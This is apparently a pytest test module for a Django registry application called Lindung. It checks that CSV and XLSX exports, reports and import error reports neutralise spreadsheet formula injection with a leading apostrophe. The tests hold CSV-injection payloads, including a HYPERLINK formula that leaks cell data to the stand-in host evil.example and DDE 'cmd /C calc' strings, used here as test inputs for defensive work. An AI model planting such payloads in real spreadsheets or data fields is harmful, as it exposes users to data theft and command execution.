"""Spreadsheet formula injection (OWASP CSV injection): text that a spreadsheet would run as a
formula (= + - @, TAB, CR first) leaves Lindung neutralised with a leading apostrophe, in every
export (lists as CSV and XLSX, the monthly report, the import error report), numbers stay
numbers, and an exported file imported again is still the same person, unchanged."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from lindung.imports.exports import csv_stream, xlsx_file
from lindung.imports.tests.test_engine import apply
from lindung.imports.tests.test_exports_odk import download
from lindung.lib.cells import spreadsheet_safe, spreadsheet_safe_row
from lindung.regions.models import Area
from lindung.registry.models import Person
from lindung.registry.services import person_create

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_is_neutralised(payload):
    assert spreadsheet_safe(payload) == "'" + payload


@pytest.mark.parametrize(
    "value",
    [
        -5,
        -2.5,
        0,
        17,
        dt.date(2024, 1, 2),
        None,
        "",
        "Siti Aminah",
        "-5",
        "-2,5",
        "+62812345678",
        "Jl. Merdeka 1",
        "a=b",
    ],
)
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert spreadsheet_safe(value) == value


def test_a_row_is_neutralised_cell_by_cell_subclasses_of_text_included():
    from django.utils.safestring import mark_safe

    row = [mark_safe("=1+1"), "+62812", "@x", 3, -2.5, True, None, dt.date(2024, 1, 2), ""]
    assert spreadsheet_safe_row(row) == [spreadsheet_safe(v) for v in row]
    assert spreadsheet_safe_row(row)[:3] == ["'=1+1", "+62812", "'@x"]


def test_the_csv_and_xlsx_writers_neutralise_and_keep_numbers():
    row = ["=1+1", -7, "@SUM(A1)", dt.date(2024, 1, 2), None, "-5", "\tcmd", "", "Siti"]
    again = [None, "+cmd|x", dt.date(2024, 1, 2), dt.date(1999, 12, 31), "", "", "", "", ""]
    text = "".join(csv_stream([row, again])).lstrip("\ufeff")
    lines = list(csv.reader(io.StringIO(text)))
    assert lines[1] == ["'=1+1", "-7", "'@SUM(A1)", "02/01/2024", "", "-5", "'\tcmd", "", "Siti"]
    assert lines[2][:4] == ["", "'+cmd|x", "02/01/2024", "31/12/1999"]
    with xlsx_file([row]) as handle:
        sheet = load_workbook(handle.name).active
        cells = list(sheet.iter_rows(min_row=2, max_row=2, max_col=4))[0]
    assert [c.value for c in cells] == ["'=1+1", -7, "'@SUM(A1)", dt.datetime(2024, 1, 2)]
    assert all(c.data_type != "f" for c in cells)
    assert cells[1].data_type == "n"


@pytest.fixture
def hostile(personas, mesuji):
    village = Area.objects.get(code="18.11.01.2001")
    return person_create(
        actor=personas["disnaker"],
        nik="1811015403950001",
        full_name="Siti Aminah",
        sex="F",
        birth_date=dt.date(1995, 3, 14),
        village=village,
        birth_place="@SUM(1+1)*cmd|' /C calc'!A0",
        address='=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
        dusun="+cmd|' /C calc'!A0",
    )


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_a_list_export_carries_no_live_formula_and_imports_back_unchanged(
    client_as, personas, hostile, mesuji, tmp_path, fmt
):
    response = client_as(personas["disnaker"]).get(
        reverse("imports:export_people"), {"format": fmt}
    )
    path = tmp_path / f"ekspor.{fmt}"
    path.write_bytes(download(response))
    if fmt == "csv":
        text = path.read_text(encoding="utf-8-sig")
        assert "'=HYPERLINK(" in text and "'@SUM(" in text and "'+cmd|" in text
        for record in csv.reader(io.StringIO(text)):
            assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in record)
    else:
        sheet = load_workbook(path).active
        cells = [c for row in sheet.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        values = [c.value for c in cells if isinstance(c.value, str)]
        assert '\'=HYPERLINK("http://evil.example/?d="&A1,"Klik")' in values
    result = apply(path, mesuji, personas["disnaker"])
    assert result.rows == 1
    assert result.counts["unchanged"] == 1, result.issues
    person = Person.objects.get(pk=hostile.pk)
    assert person.address == hostile.address  # no apostrophe crept into the record
    assert person.birth_place == hostile.birth_place


def test_the_import_error_report_neutralises_the_rows_it_sends_back(mesuji):
    from lindung.imports.models import ImportBatch, ImportIssue
    from lindung.imports.workbooks import error_report_save

    batch = ImportBatch.objects.create(
        area=mesuji, file_name="a.csv", file_sha256="0" * 64, headers=["NIK", "=Nama"]
    )
    ImportIssue.objects.create(
        batch=batch,
        kind="rejected",
        field="x",
        code="x",
        row=2,
        column="B",
        message="@bad",
        values=["-5", '=HYPERLINK("http://evil.example","x")'],
    )
    error_report_save(batch)
    batch.refresh_from_db()
    sheet = load_workbook(batch.error_report.path).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows == [
        ("NIK", "'=Nama", "Baris", "Alasan Ditolak"),
        ("-5", '\'=HYPERLINK("http://evil.example","x")', 2, "B: @bad"),
    ]


def test_the_report_workbook_neutralises_text_and_keeps_numbers():
    from types import SimpleNamespace as NS

    from lindung.reports.export import xlsx_bytes

    section = NS(
        title="Programmes",
        columns=[NS(key="name", title="Name"), NS(key="n", title="=Count")],
        rows=[{"name": "=cmd|' /C calc'!A0", "n": -3}, {"name": "Pelatihan", "n": 12}],
        totals={"name": "Total", "n": 9},
    )
    data = xlsx_bytes(
        spec=NS(title="@Report"),
        area=NS(title="Desa -X", code="18.11"),
        month="2026-03",
        sections=[section],
    )
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0].startswith("'@Report")
    assert rows[2] == ("Name", "'=Count")
    assert rows[3] == ("'=cmd|' /C calc'!A0", -3)
    assert rows[5] == ("Total", 9)
